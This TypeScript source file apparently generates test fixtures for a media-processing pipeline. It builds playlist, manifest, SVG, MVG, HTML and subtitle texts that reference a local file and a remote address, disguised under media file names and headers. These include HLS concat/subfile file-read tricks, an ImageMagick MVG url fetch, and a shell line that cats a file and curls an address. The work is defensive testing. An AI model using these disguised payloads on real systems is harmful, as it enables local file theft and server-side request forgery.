/** Texts that name other files and addresses, under names of media: none of them may be followed. */
import type { Bait } from './crafted-containers.ts';
import type { Crafted } from './corpus.ts';

export function* playlists({ file, address }: Bait): Generator<Crafted> {
  const texts: readonly (readonly [string, string])[] = [
    ['hls', `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile://${file}\n#EXTINF:10,\n${address}/a.ts\n#EXT-X-ENDLIST\n`],
    ['hls-key', `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"\n#EXTINF:10,\n${file}\n#EXT-X-ENDLIST\n`],
    ['hls-concat', `#EXTM3U\n#EXTINF:10,\nconcat:${file}|${address}/a\n#EXT-X-ENDLIST\n`],
    ['hls-subfile', `#EXTM3U\n#EXTINF:10,\nsubfile,,start,0,end,64,,:${file}\n#EXT-X-ENDLIST\n`],
    ['hls-data', `#EXTM3U\n#EXTINF:10,\ndata:text/plain;base64,QQ==\n#EXT-X-ENDLIST\n`],
    ['concat', `ffconcat version 1.0\nfile '${file}'\nfile '${address}/a.mp4'\n`],
    ['concat-bare', `file ${file}\nfile ${address}/a.mp4\n`],
    ['sdp', `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n`],
    ['smil', `<smil><body><video src="file://${file}"/><video src="${address}/a.mp4"/></body></smil>`],
    [
      'mpd',
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${address}/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ],
    ['xspf', `<?xml version="1.0"?><playlist><trackList><track><location>file://${file}</location></track></trackList></playlist>`],
    ['asx', `<asx version="3.0"><entry><ref href="${address}/a.wmv"/></entry></asx>`],
    ['pls', `[playlist]\nFile1=${file}\nFile2=${address}/a.mp3\nNumberOfEntries=2\n`],
    ['ram', `${address}/a.rm\n`],
    [
      'svg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://${file}"/><image xlink:href="${address}/a.png"/></svg>`,
    ],
    ['mvg', `push graphic-context\nimage over 0,0 0,0 'url(${address}/a.png)'\npop graphic-context\n`],
    ['html', `<html><img src="${address}/a.png"><iframe src="file://${file}"></iframe></html>`],
    ['srt', `1\n00:00:00,000 --> 00:00:01,000\n<img src="${address}/a.png">\n`],
    ['ass', `[Script Info]\nScriptType: v4.00+\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,x\n`],
    ['ffmetadata', `;FFMETADATA1\ntitle=x\n`],
    ['shell', `#!/bin/sh\ncat ${file}; curl ${address}/a\n`],
  ];
  // Under the name of a film; behind white space; and behind what opens the file as a film and as a sound.
  for (const [name, text] of texts) {
    yield { family: 'playlist', name: `${name}.mp4`, bytes: Buffer.from(text) };
    yield { family: 'playlist', name: `${name}.jpg`, bytes: Buffer.from(`\ufeff${text}`) };
    yield {
      family: 'playlist',
      name: `${name}-behind-ftyp.mp4`,
      bytes: Buffer.concat([Buffer.from('\0\0\0\x10ftypisom\0\0\0\0'), Buffer.from(text)]),
    };
    yield {
      family: 'playlist',
      name: `${name}-behind-id3.mp3`,
      bytes: Buffer.concat([Buffer.from('ID3\x03\0\0\0\0\0\0'), Buffer.from(text)]),
    };
  }
}
